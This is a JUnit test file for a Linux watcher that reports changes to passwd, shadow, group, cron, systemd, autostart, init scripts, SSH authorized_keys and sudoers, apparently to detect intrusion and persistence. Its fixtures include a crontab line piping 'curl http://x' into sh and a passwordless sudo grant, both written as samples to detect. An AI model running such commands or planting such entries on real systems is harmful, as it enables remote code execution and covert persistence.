package io.drec.linux.watch;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

final class WatchedFilesTest {
  private static final String ROOT_LINE = "root:x:0:0:root:/root:/bin/bash\n";
  private static final String ANN_LINE = "ann:x:1000:1000:Ann:/home/ann:/bin/bash\n";

  @TempDir Path root;
  private WatchedFiles files = new WatchedFiles(Path.of("/"));

  @BeforeEach
  void fill() throws IOException {
    write("/etc/passwd", ROOT_LINE);
    write("/etc/shadow", "root:$6$a:1::::::\n");
    write("/etc/group", "root:x:0:\nsudo:x:27:\n");
    write("/etc/cron.d/old", "MAILTO=root\n# nothing\n5 * * * * root /opt/old\n");
    files = new WatchedFiles(root);
    files.readAll();
  }

  private void write(String path, String text) throws IOException {
    Path file = root.resolve(path.substring(1));
    Files.createDirectories(file.getParent());
    Files.writeString(file, text);
  }

  private List<String> changes(String path) {
    return files.changes(path).stream().map(WatchedFilesTest::told).toList();
  }

  private static String told(WatchedFiles.Change change) {
    Fact fact = change.fact();
    String word =
        String.valueOf(
            change.isNew()
                ? fact.family().made()
                : change.isGone() ? fact.family().removed() : fact.family().changed());
    return word + " " + fact.name() + " " + fact.user() + " " + fact.command();
  }

  @Test
  void shouldTellNothingOfWhatWasThere() {
    assertThat(changes("/etc/passwd")).isEmpty();
    assertThat(changes("/etc/cron.d/old")).isEmpty();
    assertThat(changes("/etc/hosts")).isEmpty();
  }

  @Test
  void shouldTellOfAccounts() throws IOException {
    write("/etc/passwd", ROOT_LINE + ANN_LINE);
    assertThat(changes("/etc/passwd")).containsExactly("ACCOUNT_CREATE ann ann null");
    write("/etc/passwd", ROOT_LINE + ANN_LINE.replace("bash", "sh"));
    assertThat(changes("/etc/passwd")).containsExactly("ACCOUNT_CHANGE ann ann null");
    write("/etc/passwd", ROOT_LINE);
    assertThat(changes("/etc/passwd")).containsExactly("ACCOUNT_DELETE ann ann null");
  }

  @Test
  void shouldTellThatAPasswordChangedAndNothingOfIt() throws IOException {
    write("/etc/shadow", "root:$6$secret:1::::::\n");
    List<WatchedFiles.Change> changes = files.changes("/etc/shadow");
    assertThat(changes).hasSize(1);
    assertThat(told(changes.get(0))).isEqualTo("ACCOUNT_CHANGE root root null");
    assertThat(changes.get(0).fact().toString()).doesNotContain("$6$");
  }

  @Test
  void shouldTellWhoEntersAndLeavesAGroup() throws IOException {
    write("/etc/group", "root:x:0:\nsudo:x:27:ann,bob\n");
    assertThat(changes("/etc/group"))
        .containsExactlyInAnyOrder("GROUP_ADD sudo:ann ann null", "GROUP_ADD sudo:bob bob null");
    write("/etc/group", "root:x:0:\nsudo:x:27:bob\n");
    assertThat(changes("/etc/group")).containsExactly("GROUP_REMOVE sudo:ann ann null");
  }

  @Test
  void shouldTellOfJobsOfCron() throws IOException {
    write("/etc/cron.d/new", "@daily ann /home/ann/x --fast\n");
    assertThat(changes("/etc/cron.d/new"))
        .containsExactly("TASK_CREATE /etc/cron.d/new /home/ann/x --fast ann /home/ann/x --fast");
    write("/var/spool/cron/crontabs/ann", "*/5 * * * * curl http://x | sh\n");
    assertThat(changes("/var/spool/cron/crontabs/ann"))
        .containsExactly(
            "TASK_CREATE /var/spool/cron/crontabs/ann curl http://x | sh ann curl http://x | sh");
    write("/etc/cron.d/old", "6 * * * * root /opt/old\n");
    assertThat(changes("/etc/cron.d/old"))
        .containsExactly("TASK_CHANGE /etc/cron.d/old /opt/old root /opt/old");
    Files.delete(root.resolve("etc/cron.d/old"));
    assertThat(changes("/etc/cron.d/old"))
        .containsExactly("TASK_DELETE /etc/cron.d/old /opt/old root /opt/old");
  }

  @Test
  void shouldTellOfUnitsAndTimers() throws IOException {
    write("/etc/systemd/system/x.service", "[Service]\nUser=ann\nExecStart=-/opt/x run\n");
    assertThat(changes("/etc/systemd/system/x.service"))
        .containsExactly("SERVICE_CREATE x.service ann /opt/x run");
    write("/etc/systemd/system/x.timer", "[Timer]\nOnCalendar=daily\n");
    assertThat(changes("/etc/systemd/system/x.timer"))
        .containsExactly("TASK_CREATE x.timer null x.service");
  }

  @Test
  void shouldTellOfAutostartsInitScriptsAndKeys() throws IOException {
    write("/home/ann/.config/autostart/x.desktop", "[Desktop Entry]\nExec=/opt/x\n");
    assertThat(changes("/home/ann/.config/autostart/x.desktop"))
        .containsExactly("TASK_CREATE /home/ann/.config/autostart/x.desktop null /opt/x");
    write("/etc/init.d/x", "#!/bin/sh\n");
    assertThat(changes("/etc/init.d/x")).containsExactly("SERVICE_CREATE x null /etc/init.d/x");
    write("/home/ann/.ssh/authorized_keys", "ssh-ed25519 AAAA\n");
    assertThat(changes("/home/ann/.ssh/authorized_keys"))
        .containsExactly("ACCOUNT_CHANGE /home/ann/.ssh/authorized_keys ann null");
    write("/etc/sudoers.d/ann", "ann ALL=(ALL) NOPASSWD: ALL\n");
    assertThat(changes("/etc/sudoers.d/ann"))
        .containsExactly("POLICY /etc/sudoers.d/ann null null");
  }
}
